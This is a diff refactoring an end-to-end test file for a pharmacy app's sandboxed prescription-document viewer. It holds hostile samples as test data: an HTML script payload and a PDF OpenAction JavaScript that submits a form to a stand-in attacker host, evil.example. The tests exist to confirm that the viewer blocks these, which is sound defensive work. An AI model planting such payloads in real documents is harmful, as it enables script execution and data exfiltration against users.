@@ -2,10 +2,10 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Frame } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
-import { type CounterPage, DESK, drawnFrame, press, showOrder } from '../../support/counter/counter-page.ts';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
+import { type CounterPage, drawnFrame, press, showOrder } from '../../support/counter/counter-page.ts';
 import { type CounterWorld, NOON, openCounterWorld } from '../../support/counter/counter-world.ts';
-import { folioOf, placeOrder } from '../../support/counter/placed-orders.ts';
+import { placeOrder } from '../../support/counter/placed-orders.ts';
 import { drawnPdf, drawnPng, endlessPdf, scannedPdf } from '../../support/counter/prescription-files.ts';
 import { openTestServer, type TestServer } from '../../support/servers/test-server.ts';
 
@@ -23,24 +23,16 @@ beforeAll(async () => {
 });
 afterAll(() => world.close());
 
-const opened: CounterPage[] = [];
-afterEach(async () => {
-  for (const each of [desk, ...opened]) {
-    expect(each.takeComplaints().filter((said) => !said.includes('responded with a status of 502 '))).toEqual([]);
-  }
-  for (const each of opened.splice(0)) await each.close();
-});
-
-const openOrder = (id: number, shown = desk) => showOrder(shown, id);
+/** Shows a new order with this document. */
+const openOrderWith = async (file: Buffer, shown = desk): Promise<CounterPage> =>
+  showOrder(shown, await placeOrder(server, [file]));
 
 /** Opens a page that no other case uses. */
 async function openOwnPage(): Promise<CounterPage> {
   const shown = await world.open();
-  opened.push(shown);
+  onTestFinished(() => shown.close());
   return shown;
 }
-
-const newPdf = (...pages: readonly string[]): Buffer => drawnPdf(pages.length > 0 ? pages : [BLUE]);
 
 /** Gives the page this in place of every document, until the case is over. */
 async function replaceDocuments(body: Buffer): Promise<void> {
@@ -59,10 +51,9 @@ const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
     return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
   })()`);
 
-describe('the document of a prescription', { timeout: 60_000 }, () => {
+describe('the document of a prescription', () => {
   it('is drawn page by page if it is a PDF, by keys', async () => {
-    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
-    const { page } = await openOrder(id);
+    const { page } = await openOrderWith(drawnPdf([BLUE, RED]));
     const frame = await drawnFrame(page, 'página 1 de 2');
     expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
     await press(page, 'ArrowRight');
@@ -70,13 +61,12 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
     await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
     await press(page, 'r');
     await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
-    const width = () => frame.evaluate(`document.querySelector('canvas').style.width`);
-    await page.keyboard.press('+');
-    await expect.poll(width).toBe('150%');
+    await press(page, '+');
+    await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
   });
 
   it('is drawn if it is a picture', async () => {
-    const { page } = await openOrder(await placeOrder(server, [drawnPng(300, 200, [200, 30, 30])]));
+    const { page } = await openOrderWith(drawnPng(300, 200, [200, 30, 30]));
     const frame = await drawnFrame(page, 'página 1 de 1');
     expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
     await press(page, 'r');
@@ -87,35 +77,35 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
     ['a page of HTML', '<script>parent.document.title = "in"</script>'],
     ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
   ])('says so if it cannot be drawn: %s', async (_, document) => {
-    const id = await placeOrder(server, [newPdf()]);
     await replaceDocuments(Buffer.from(document, 'latin1'));
-    const { page } = await openOrder(id);
+    const { page } = await openOrderWith(drawnPdf([BLUE]));
     await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
-    expect(await page.title()).toBe(`Orden ${folioOf(id)} · Botica`);
+    expect(await page.title()).toMatch(/^Orden RX-\d{8} · Botica$/);
   });
 
   it('is asked for again by a button, after it could not be read', async () => {
-    const { page } = desk;
+    const { page, takeComplaints } = desk;
     const json = { code: 'unreachable', text: 'S3 no responde.' };
     await page.route('**/documents/**', (route) => route.fulfill({ status: 502, json }), { times: 1 });
-    await openOrder(await placeOrder(server, [newPdf()]));
+    await openOrderWith(drawnPdf([BLUE]));
     await page.getByRole('alert').getByText('S3 no responde.').waitFor();
     await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
     expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
     expect(await page.getByRole('alert').count()).toBe(0);
+    expect(takeComplaints()).toEqual([expect.stringContaining('responded with a status of 502 ')]);
   });
 
   it('is never blank because its scan could not be decoded', async () => {
-    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode')]));
+    const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode'));
     expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
     await press(page, '+', 'r');
     await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
-    const undecodable = await openOrder(await placeOrder(server, [scannedPdf('JPXDecode')]));
+    const undecodable = await openOrderWith(scannedPdf('JPXDecode'));
     await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
   });
 
   it('shows its other pages if one of them cannot be drawn', async () => {
-    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode', 'JPXDecode')]));
+    const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode', 'JPXDecode'));
     const frame = await drawnFrame(page, 'página 1 de 2');
     await press(page, 'ArrowRight');
     await page.getByText('Esta página no se puede mostrar').waitFor();
@@ -126,7 +116,7 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
   });
 
   it('is given up if it takes too long, while the page goes on', async () => {
-    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]), await openOwnPage());
+    const { page } = await openOrderWith(endlessPdf(), await openOwnPage());
     await page.getByText('Página 1 de 1').waitFor();
     // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
     await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
@@ -149,7 +139,7 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
         document.dispatchEvent(new Event('visibilitychange'));
       }`);
     await see('hidden');
-    await openOrder(await placeOrder(server, [newPdf()]), own);
+    await openOrderWith(drawnPdf([BLUE]), own);
     await page.evaluate('new Promise((resolve) => setTimeout(resolve, 40_000))');
     expect(await page.getByRole('alert').count()).toBe(0);
     await see('visible');
@@ -162,17 +152,13 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
 
   it('runs nothing of a PDF', async () => {
     const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
-    const id = await placeOrder(server, [newPdf()]);
     await replaceDocuments(drawnPdf([RED], script));
-    const { page } = await openOrder(id);
+    const { page } = await openOrderWith(drawnPdf([BLUE]));
     expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
   });
 
   it('could reach neither the page nor anybody else, whatever it ran', async () => {
-    // The browser says twice of some attempts that it blocked them, the second time when it likes.
-    const own = await world.open({ screen: DESK });
-    onTestFinished(() => own.close());
-    const shown = await openOrder(await placeOrder(server, [newPdf()]), own);
+    const shown = await openOrderWith(drawnPdf([BLUE]), await openOwnPage());
     const frame = await drawnFrame(shown.page, 'página 1 de 1');
     let reached = 0;
     const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
@@ -207,13 +193,8 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
     });
     await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
     const said: string[] = [];
-    for (const reason of [
-      "connect-src 'none'",
-      'TrustedScriptURL',
-      'sandboxed',
-      "'img-src' was not",
-      "frame-src 'self'",
-    ]) {
+    const reasons = ["connect-src 'none'", 'TrustedScriptURL', 'sandboxed', "'img-src' was not", "frame-src 'self'"];
+    for (const reason of reasons) {
       await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain(reason);
     }
     // A request that was blocked is told too.
@@ -221,5 +202,8 @@ describe('the document of a prescription', { timeout: 60_000 }, () => {
     expect(said.filter((line) => !BLOCKED.test(line))).toEqual([]);
     expect(reached).toBe(0);
     stranger.close();
+    // The browser says twice of some attempts that it blocked them, the second time when it likes.
+    await shown.page.close();
+    shown.takeComplaints();
   });
 });
